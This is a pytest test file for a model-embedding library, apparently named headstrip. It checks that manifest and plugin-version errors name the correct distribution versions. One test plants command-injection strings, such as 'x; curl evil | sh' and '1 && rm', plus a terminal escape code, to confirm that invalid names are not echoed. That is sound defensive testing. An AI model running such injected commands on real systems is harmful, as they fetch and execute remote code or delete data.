"""If a plugin changed or is missing, the error says which version wrote the manifest."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from click.testing import CliRunner
from PIL import Image
from tests.distributions import catalog_of, install_distribution, on_path, weights_of
from tests.embed.written import write_parquet
from torch import nn
from torchvision import models

from headstrip import (
    BackboneSpec,
    Encoder,
    HeadstripError,
    ManifestError,
    Preprocessing,
    WeightsEntry,
    build_encoder,
    detach,
    hookimpl,
    register_plugin,
)
from headstrip.cli import main
from headstrip.embed.output.loading import open_embeddings
from headstrip.embed.rebuild_encoder import build_encoder_of, check_encoder
from headstrip.embed.run import embed_source
from headstrip.registry.registry import Registry, use_registry

NAME = "shufflenet_v2_x0_5"
CODE = f"""
import torchvision
from headstrip import hookimpl
API_VERSION = 1

@hookimpl
def build_model(spec, options):
    return torchvision.models.{NAME}(**options)
"""


def uninstall(site: Path) -> None:
    for old in site.glob("acme_vision-*"):
        for file in old.iterdir():
            file.unlink()
        old.rmdir()
    use_registry(Registry())


def install(site: Path, version: str, *entries: WeightsEntry) -> None:
    """Install one version of a plugin, and uninstall any other."""
    uninstall(site)
    tag = entries[0].tag if entries else None
    spec = BackboneSpec(
        "net", "acme", "shufflenet", "acme", "image", (3, 224, 224), 1024, 1366792, tag
    )
    install_distribution(
        site,
        "acme-vision",
        {"acme": "acme_vision"},
        {
            "acme_vision/__init__.py": CODE,
            "acme_vision/catalog.tsv": catalog_of(spec),
            "acme_vision/weights.tsv": weights_of(*[("net", entry) for entry in entries]),
        },
        version,
    )
    use_registry(Registry())


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Path]:
    """A folder of installed distributions, for one test."""
    folder = tmp_path / "site"
    folder.mkdir()
    with on_path(folder):
        yield folder
    use_registry(None)


def entry_of(path: Path, tag: str = "V1") -> WeightsEntry:
    torch.save(models.get_model(NAME, weights=None).state_dict(), path)
    return WeightsEntry(tag, (str(path),))


@pytest.fixture
def written(site: Path, tmp_path: Path) -> dict[str, Any]:
    """A manifest of version 1.0 of the plugin."""
    install(site, "1.0", entry_of(tmp_path / "one.pth"))
    return build_encoder("acme:net").manifest()


def messages(manifest: dict[str, Any], tmp_path: Path, kind: type[HeadstripError]) -> list[str]:
    """Return the errors of building with a manifest and of searching with it."""
    errors = []
    with pytest.raises(kind) as caught:
        build_encoder(manifest, allow_versions=True)
    errors.append(str(caught.value))
    file = write_parquet(
        tmp_path / "out", ["a"], np.zeros((1, 1024), np.float32), metadata={"manifest": manifest}
    )
    with pytest.raises(HeadstripError) as other:
        build_encoder_of(open_embeddings(file))
    return [*errors, str(other.value)]


def test_the_error_for_weights_that_changed_under_a_tag_has_both_versions(
    site: Path, written: dict[str, Any], tmp_path: Path
) -> None:
    entry = WeightsEntry("V1", (str(tmp_path / "one.pth"),), sha256="ab" * 32)
    install(site, "2.0", entry)
    for message in messages(written, tmp_path, ManifestError):
        assert "has other weights under the tag 'V1' here" in message
        assert "written with acme-vision 1.0, and acme-vision 2.0 is installed here" in message
        assert written["weights"]["sha256"] in message
        assert "own" not in message
        assert message.endswith(".")


def test_the_error_for_a_changed_file_without_a_hash_has_the_version(
    site: Path, written: dict[str, Any], tmp_path: Path
) -> None:
    install(site, "2.0", entry_of(tmp_path / "two.pth"))
    for message in messages(written, tmp_path, ManifestError):
        assert f"weights.sha256 is {written['weights']['sha256']!r} in the manifest" in message
        assert "The manifest was written with acme-vision 1.0." in message


def test_the_error_for_a_removed_tag_has_both_versions(
    site: Path, written: dict[str, Any], tmp_path: Path
) -> None:
    install(site, "3.0", entry_of(tmp_path / "two.pth", "V2"))
    for message in messages(written, tmp_path, ManifestError):
        assert "acme:net has no weights 'V1' here" in message
        assert "written with acme-vision 1.0, and acme-vision 3.0 is installed here" in message


def test_the_error_for_a_missing_plugin_names_its_distribution(
    site: Path, written: dict[str, Any], tmp_path: Path
) -> None:
    for info in site.glob("acme_vision-*"):
        (info / "entry_points.txt").unlink()
    use_registry(Registry())
    for message in messages(written, tmp_path, HeadstripError):
        assert "There is no source 'acme'" in message
        assert "It was written with acme-vision 1.0. Install that." in message


def test_the_error_for_a_missing_registered_plugin_says_to_register_it(
    tmp_path: Path,
) -> None:
    def net() -> nn.Module:
        return nn.Sequential(nn.Flatten(), nn.Linear(192, 5), nn.Linear(5, 2))

    class Lab:
        FAMILIES = ("tiny",)

        @hookimpl
        def backbones(self):
            return (BackboneSpec("net", "lab", "lab:tiny", "lab", "image", (3, 8, 8), 0, 0),)

        @hookimpl
        def build_model(self, spec, options):
            return net()

        @hookimpl
        def strip_head(self, model):
            return detach(model, "2")

    register_plugin(Lab(), "lab")
    weights = tmp_path / "net.pt"
    torch.save(net().state_dict(), weights)
    manifest = build_encoder("lab:net", weights=str(weights)).manifest()
    use_registry(Registry())
    with pytest.raises(HeadstripError, match=r"is installed\. .*headstrip\.register_plugin"):
        build_encoder(manifest)


def test_the_error_does_not_repeat_invalid_names_of_distributions(
    site: Path, written: dict[str, Any], tmp_path: Path
) -> None:
    (site / next(site.glob("acme_vision-*")) / "entry_points.txt").unlink()
    use_registry(Registry())
    written["versions"] = {
        "x; curl evil | sh": "1",
        "\x1b[31m": "1",
        "good": "1 && rm",
        "fine": "1",
    }
    for message in messages(written, tmp_path, HeadstripError):
        assert "It was written with fine 1. Install that." in message


def test_a_manifest_of_a_local_file_still_requires_that_file(
    site: Path, written: dict[str, Any], tmp_path: Path
) -> None:
    written["weights"] = {"tag": "V1", "sha256": "ab" * 32, "file": "tuned.pth"}
    for message in messages(written, tmp_path, ManifestError):
        assert "was built from somebody's own weights file, tuned.pth" in message


@pytest.fixture
def photographs(tmp_path: Path) -> Path:
    folder = tmp_path / "photographs"
    folder.mkdir()
    Image.new("RGB", (32, 32), "green").save(folder / "leaf.png")
    return folder


def built() -> Encoder:
    steps = Preprocessing(crop=(32, 32), resize=32, mean=(0.5,) * 3, std=(0.5,) * 3)
    return build_encoder("acme:net", preprocessing=steps)


@pytest.fixture
def embedded(site: Path, photographs: Path, tmp_path: Path) -> Path:
    """An embeddings file that version 1.0 of the plugin wrote."""
    out = tmp_path / "out.parquet"
    install(site, "1.0", entry_of(tmp_path / "one.pth"))
    embed_source(built(), photographs, out)
    return out


def test_resuming_with_changed_weights_names_both_versions(
    site: Path, embedded: Path, photographs: Path, tmp_path: Path
) -> None:
    install(site, "2.0", entry_of(tmp_path / "two.pth"))
    encoder = built()
    message = "The file was written with acme-vision 1.0, and acme-vision 2.0 is installed here."
    with pytest.raises(HeadstripError, match=message):
        embed_source(encoder, photographs, embedded)
    with pytest.raises(HeadstripError, match=message):
        check_encoder(open_embeddings(embedded), encoder)


def test_resuming_without_the_plugin_says_what_to_install(
    site: Path, embedded: Path, photographs: Path
) -> None:
    uninstall(site)
    command = ["embed", str(photographs), "-o", str(embedded), "-b"]
    message = CliRunner().invoke(main, [*command, "acme:net"]).stderr
    assert "It was written with acme-vision 1.0. Install that." in message
    assert "acme-vision" not in CliRunner().invoke(main, [*command, "other:net"]).stderr
